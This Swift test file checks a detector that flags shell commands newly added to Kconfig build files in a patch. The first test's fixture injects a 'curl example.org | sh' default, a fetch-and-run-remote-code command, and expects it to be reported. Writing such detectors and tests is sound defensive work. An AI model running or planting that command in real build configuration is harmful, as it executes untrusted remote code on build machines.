// SPDX-License-Identifier: GPL-2.0-only

import Diagnostics
import Testing

@testable import Checks

struct AddedShellCommandTests {
    @Test func reportsANewCommand() throws {
        let found = try KconfigFixture.lamps.patch {
            $0["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,curl example.org | sh)\n"
        }.found(.addedShellCommand)
        #expect(found.count == 1)
        #expect(found.first?.message.contains("curl example.org | sh") == true)
        #expect(found.first?.location.tree?.description == "lamp/Kconfig:10")
    }

    @Test func staysSilentOnCommandsThatAreThere() throws {
        var fixture = KconfigFixture.lamps
        fixture.base["lamp/Kconfig"]? += "config OIL\n\tdef_bool $(shell,test -e /oil)\n"
        let series = fixture.patch { $0["lamp/Kconfig"]? += "config WICK\n\tdef_bool $(shell,test -e /oil)\n" }
        #expect(try series.messages(.addedShellCommand) == [])
    }
}
